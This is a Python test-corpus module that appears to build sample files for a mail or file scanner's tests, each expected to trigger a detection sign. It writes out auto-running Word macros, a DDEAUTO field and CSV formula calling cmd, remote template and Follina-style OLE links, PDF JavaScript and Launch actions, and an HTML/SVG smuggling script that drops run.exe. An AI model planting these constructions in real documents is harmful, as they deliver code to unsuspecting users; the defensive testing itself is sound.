"""Documents that do something when they are opened, and pages that build a file."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import uuid
from collections.abc import Callable

import pikepdf

from tests.corpus.building import PROGRAM, Family, attached, carrying, letter, mixed, text
from tests.corpus.case import NOT_VERIFIED, Expect
from tests.corpus.formats import attached_file, compound, libarchive_file, vba_project, zip_file

_family = Family("active-content")
_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_RELATIONSHIPS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_AUTO = b'Sub AutoOpen()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'
_QUIET = b"Sub Format()\r\n    Selection.Bold = True\r\nEnd Sub\r\n"


def _add(
    name: str, why: str, client: str, content: bytes | Callable[[], bytes], sign: str, file_name: str = "a.doc"
) -> None:
    def build() -> bytes:
        return carrying(content() if callable(content) else content, file_name)

    _family.add(name, why, client, build, Expect(frozenset(), sign=sign))


def _docx(**members: bytes) -> bytes:
    base = {"[Content_Types].xml": _XML + _TYPES, "_rels/.rels": _XML + _RELATIONSHIPS + b"</Relationships>"}
    document = {"word/document.xml": _XML + _WORD + b"</w:body></w:document>"}
    return zip_file(base | document | {name.replace("__", "/"): content for name, content in members.items()})


def _relation(kind: bytes, target: bytes) -> bytes:
    one = b'<Relationship Id="rId1" Type="' + _OFFICE + kind + b'" Target="' + target + b'" TargetMode="External"/>'
    return _XML + _RELATIONSHIPS + one + b"</Relationships>"


_add(
    "docm",
    "a macro that does no harm",
    "Word",
    _docx(**{"word__vbaProject.bin": vba_project(_QUIET)}),
    "macro",
    "a.docm",
)
_add(
    "docm-autorun",
    "a macro that runs when the document is opened",
    "Word",
    _docx(**{"word__vbaProject.bin": vba_project(_AUTO)}),
    "macro-autorun",
    "a.docm",
)
_add(
    "docx-with-macro",
    "a macro in a document that is called .docx",
    NOT_VERIFIED,
    _docx(**{"word__vbaProject.bin": vba_project(_AUTO)}),
    "macro-autorun",
    "a.docx",
)
_add(
    "macro-elsewhere",
    "the macro's file has an odd name",
    "Word follows the relationship, not the name",
    _docx(**{"word__picture.dat": vba_project(_AUTO)}),
    "macro-autorun",
    "a.docm",
)
_add(
    "zipped-docm",
    "a macro in a document in a zip",
    "Word",
    lambda: zip_file({"a.docm": _docx(**{"word__vbaProject.bin": vba_project(_AUTO)})}),
    "macro-autorun",
    "a.zip",
)
_add(
    "dde",
    "a field that starts a program through DDE",
    "Word before the advisory 4053440 of 2017",
    zip_file(
        {
            "[Content_Types].xml": _XML + _TYPES,
            "word/document.xml": _XML
            + _WORD
            + b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe /k calc"/></w:p></w:body></w:document>',
        }
    ),
    "dde",
    "a.docx",
)
_add(
    "external-template",
    "a template from elsewhere",
    "Word loads it (template injection)",
    _docx(**{"word___rels__settings.xml.rels": _relation(b"attachedTemplate", b"http://192.0.2.1/x.dotm")}),
    "external-template",
    "a.docx",
)
_add(
    "external-ole",
    "an OLE object from elsewhere",
    "Word (CVE-2022-30190, Follina)",
    _docx(
        **{
            "word___rels__document.xml.rels": _relation(
                b"oleObject", b"mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html"
            )
        }
    ),
    "external-template",
    "a.docx",
)


def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        packed = io.BytesIO()
        document.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
        return packed.getvalue()


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _embed(document: pikepdf.Pdf) -> None:
    document.attachments["notes.txt"] = attached_file(document, b"notes", "notes.txt")


_add(
    "pdf-javascript",
    "a script that runs when the PDF is opened",
    "Adobe Reader",
    lambda: _pdf(_script),
    "pdf-javascript",
    "a.pdf",
)
_add(
    "pdf-launch",
    "a program that is started when the PDF is opened",
    "Adobe Reader asks first",
    lambda: _pdf(_launch),
    "pdf-launch",
    "a.pdf",
)
_add("pdf-embedded", "a file in a PDF", "Adobe Reader", lambda: _pdf(_embed), "pdf-embedded", "a.pdf")
_add(
    "pdf-escaped-name",
    "the name JavaScript written with escapes",
    "every reader: PDF allows #xx in names",
    b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>>>\nendobj\n"
    b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n",
    "pdf-javascript",
    "a.pdf",
)

_SMUGGLED = (
    b"<html><body><script>\r\nvar d = atob('"
    + base64.b64encode(PROGRAM)
    + b"');\r\nvar b = new Uint8Array(d.length);\r\n"
    b"for (var i = 0; i < d.length; i++) b[i] = d.charCodeAt(i);\r\n"
    b"var blob = new Blob([b], {type: 'octet/stream'});\r\nvar a = document.createElement('a');\r\n"
    b"a.href = URL.createObjectURL(blob); a.download = 'run.exe'; a.click();\r\n</script></body></html>\r\n"
)
_add(
    "html-smuggling",
    "a page that builds a program and saves it",
    "every browser",
    _SMUGGLED,
    "html-smuggling",
    "a.html",
)
_add(
    "svg-smuggling",
    "the same in a drawing",
    "every browser",
    b'<svg xmlns="http://www.w3.org/2000/svg">'
    + _SMUGGLED[12:-16].replace(b"<script>", b"<script><![CDATA[").replace(b"</script>", b"]]></script>")
    + b"</svg>",
    "html-smuggling",
    "a.svg",
)
_family.add(
    "html-smuggling-body",
    "the same in the body of the message",
    "browsers, by webmail that shows scripts",
    letter(b"Content-Type: text/html\r\n", _SMUGGLED),
    Expect(frozenset(), sign="html-smuggling"),
)

_LINK = (
    struct.pack("<I", 0x4C)
    + uuid.UUID("00021401-0000-0000-c000-000000000046").bytes_le
    + struct.pack("<I", 0x80)
    + bytes(52)
    + bytes(400)
)
_add("shortcut", "a shortcut of Windows that does not say so", "Windows", _LINK, "shortcut", "a.dat")
_add(
    "image-with-program",
    "an image of a disk with a program in it",
    "Windows Explorer mounts it",
    lambda: libarchive_file("iso9660", {"run.exe": PROGRAM}),
    "image-with-executable",
    "a.dat",
)
_add(
    "xls-macro",
    "a macro in an old Excel sheet",
    "Excel",
    compound({"Workbook": bytes(5000), "_VBA_PROJECT_CUR/VBA/dir": b"", "_VBA_PROJECT_CUR/PROJECT": b"Name=x"}),
    "macro",
    "a.xls",
)

_TABLE = b"name,sum\r\nx,\"=cmd|'/c calc'!A1\"\r\n"
_DDE = Expect(frozenset(), sign="unpack: dde: ")
_EXCEL = "Excel takes a text for a table by its name"
_add("csv", "a cell that starts a program", _EXCEL, _TABLE, "unpack: dde: ", "a.csv")
_family.add(
    "csv-copy",
    "the same table twice, and the first time it is not called a table",
    _EXCEL,
    mixed(text(), attached(_TABLE, b"a.bin"), attached(_TABLE, b"a.csv")),
    _DDE,
)
_family.add(
    "csv-copy-in-zip",
    "the same table as a text for everybody, and in a zip as a table",
    _EXCEL,
    mixed(text(), attached(_TABLE, b"a.bin"), attached(zip_file({"a.csv": _TABLE}), b"a.zip")),
    _DDE,
)
_family.add(
    "csv-copy-in-gz",
    "the same gzip twice, the table in it by its second name only",
    _EXCEL,
    mixed(text(), *(attached(gzip.compress(_TABLE, mtime=0), name) for name in (b"a.bin.gz", b"a.csv.gz"))),
    _DDE,
)
_add(
    "csv-picture",
    "a table that begins as a picture does",
    NOT_VERIFIED,
    b"GIF8\x01\r\n=cmd|'/c calc'!A1\r\n",
    "unpack: dde: ",
    "a.csv",
)

CASES = tuple(_family.cases)
